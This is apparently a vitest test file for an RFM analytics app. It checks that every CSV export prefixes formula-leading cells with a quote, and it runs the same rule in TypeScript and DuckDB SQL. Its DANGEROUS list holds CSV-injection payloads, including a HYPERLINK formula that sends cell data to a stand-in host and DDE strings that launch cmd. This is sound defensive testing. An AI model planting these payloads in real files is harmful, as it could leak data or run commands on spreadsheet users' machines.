/**
 * CSV injection: one rule for every CSV we write. The TypeScript and SQL forms of the rule agree,
 * and each export (customers, a selection, excluded rows, the builder's columns and audiences)
 * writes formula-leading text with a `'` in front while numbers stay numbers.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, csvSafeQuerySql, neutraliseCell, neutraliseSql } from '../../src/lib/csv-safe';
import { str } from '../../src/lib/sql';
import { excludedRowsQuery, inspectCsv, loadCsv } from '../../src/lib/ingest/pipeline';
import { readCsvSql } from '../../src/lib/ingest/csv-dialect';
import type { ReadPlan } from '../../src/lib/ingest/columns';
import { copyToCsvSql, customersExportSql, scoreCustomers } from '../../src/lib/rfm/analysis';
import { selectionExportSql } from '../../src/lib/rfm/customer-list';
import { columnsExportSql } from '../../src/lib/builder/builder-engine';
import { emailListCsv } from '../../src/lib/builder/audience';
import { GRID_MAP } from '../../src/lib/rfm/segments';
import { DEFAULT_SCORING } from '../../src/lib/rfm/types';
import { openWasmDb, type WasmTestDb } from './duckdb-wasm-node';

/** Cells a spreadsheet would run, and cells it would not. */
const DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|', '-2+3+cmd', '\tTAB', '\rCR'];
const HARMLESS = ['alice@example.com', 'Zürich 東京', 'a=b', 'x-1', '', "'already"];

let db: WasmTestDb;
const dir = mkdtempSync(join(tmpdir(), 'rfm-csv-safe-'));
let files = 0;

beforeAll(async () => {
	db = await openWasmDb();
}, 60_000);
afterAll(() => {
	db.close();
	rmSync(dir, { recursive: true, force: true });
});

/** Runs COPY to a new file and reads it back as records (DuckDB reads the CSV it wrote). */
async function exported(copy: (file: string) => string): Promise<{ text: string; rows: Record<string, string | null>[] }> {
	const file = join(dir, `export-${++files}.csv`);
	await db.run(copy(file));
	const text = new TextDecoder().decode(db.readFile(file));
	const rows = await db.rows<Record<string, string | null>>(`SELECT * FROM read_csv(${str(file)}, header = true, all_varchar = true)`);
	return { text, rows };
}

describe('the rule', () => {
	it('prefixes formula-leading text with a quote, in TypeScript and in SQL alike', async () => {
		for (const v of DANGEROUS) expect(neutraliseCell(v), JSON.stringify(v)).toBe(`'${v}`);
		for (const v of HARMLESS) expect(neutraliseCell(v), JSON.stringify(v)).toBe(v);
		const all = [...DANGEROUS, ...HARMLESS];
		const rows = await db.rows<{ i: number; safe: string }>(
			`SELECT i, ${neutraliseSql('v')} AS safe FROM (VALUES ${all.map((v, i) => `(${i}, ${str(v)})`).join(', ')}) AS t(i, v) ORDER BY i`
		);
		expect(rows.map((r) => r.safe)).toEqual(all.map(neutraliseCell));
		const [nul] = await db.rows<{ safe: string | null }>(`SELECT ${neutraliseSql('NULL::VARCHAR')} AS safe`);
		expect(nul!.safe).toBeNull();
	});

	it('leaves numbers, dates and booleans as they are, and keeps the column names and order', async () => {
		const { text } = await exported((file) =>
			copyToCsvSql(
				`SELECT '=1+1' AS label, -12.5::DOUBLE AS amount, -3 AS count, DATE '2024-03-01' AS day, true AS flag, NULL::VARCHAR AS empty`,
				file
			)
		);
		expect(text).toBe(`label,amount,count,day,flag,empty\n'=1+1,-12.5,-3,2024-03-01,true,\n`);
		const [row] = await db.rows<Record<string, unknown>>(csvSafeQuerySql(`SELECT 'x' AS "a b", 1 AS "Order #"`));
		expect(Object.keys(row!)).toEqual(['a b', 'Order #']);
	});

	it('writes the builder audience cells by the same rule', () => {
		for (const v of DANGEROUS) expect(csvCell(v)).toMatch(/^"?'/);
		expect(csvCell(-12.5)).toBe('-12.5');
		const csv = emailListCsv(
			[{ customer_id: 'c', email: 'a@example.com', first_name: '=cmd|x', last_name: '@x', phone: null, country: null, segment: '+S' }],
			null
		);
		expect(csv.split('\n')[1]).toBe(`a@example.com,'=cmd|x,'@x,'+S`);
	});
});

describe('every export of a file with hostile customer ids', () => {
	let plan: ReadPlan;
	let source: string;
	let passes: number;
	beforeAll(async () => {
		const lines = ['order_id,customer_id,order_date,total'];
		DANGEROUS.slice(0, 4).forEach((id, i) => {
			lines.push(`A${i},"${id.replaceAll('"', '""')}",2024-03-0${i + 1},${10 + i}`);
			lines.push(`B${i},"${id.replaceAll('"', '""')}",2024-04-0${i + 1},${20 + i}`);
		});
		lines.push('C1,alice,2024-05-01,-5.5');
		lines.push('C2,alice,2024-05-02,30');
		// Excluded: its date is not a date, and its id is a formula.
		lines.push('D1,=EVIL(),not a date,12');
		db.registerText('hostile.csv', lines.join('\n') + '\n');
		const inspection = await inspectCsv(db, 'hostile.csv');
		plan = inspection.detection.plan;
		source = readCsvSql('hostile.csv', inspection.dialect);
		passes = (await loadCsv(db, 'hostile.csv', inspection.dialect, plan)).passes ?? 1;
		await scoreCustomers(db, DEFAULT_SCORING, GRID_MAP);
	});

	const expectSafe = (rows: Record<string, string | null>[], column: string) => {
		const ids = rows.map((r) => r[column] ?? '');
		for (const v of DANGEROUS.slice(0, 4)) expect(ids, v).toContain(`'${v}`);
		expect(ids.filter((id) => /^[=+\-@\t\r]/.test(id))).toEqual([]);
	};

	it('customer export', async () => {
		const { rows } = await exported((file) => copyToCsvSql(customersExportSql(GRID_MAP), file));
		expectSafe(rows, 'customer_id');
		// A customer whose net revenue includes a return: numbers stay numbers, not `'-…`.
		expect(rows.find((r) => r.customer_id === 'alice')?.frequency).toBe('1');
	});

	it('selection export', async () => {
		const { rows } = await exported((file) => copyToCsvSql(selectionExportSql({ kind: 'all' }, GRID_MAP), file));
		expectSafe(rows, 'customer_id');
	});

	it('excluded rows export', async () => {
		const { rows } = await exported((file) => copyToCsvSql(excludedRowsQuery(source, plan, ['hostile.csv'], passes), file));
		expect(rows.map((r) => [r.customer_id, r.order_date])).toContainEqual(["'=EVIL()", 'not a date']);
	});

	it('builder columns export', async () => {
		await db.run(
			`CREATE OR REPLACE TABLE builder_customers AS SELECT customer_id, NULL::VARCHAR AS city, -1.5 AS total_spent FROM customer_scores`
		);
		await db.run(`CREATE OR REPLACE TABLE builder_selection AS SELECT customer_id FROM customer_scores`);
		const { rows, text } = await exported((file) => columnsExportSql(['customer_id', 'city'], file));
		expectSafe(rows, 'customer_id');
		expect(text.split('\n')[0]).toBe('customer_id,city');
	});
});
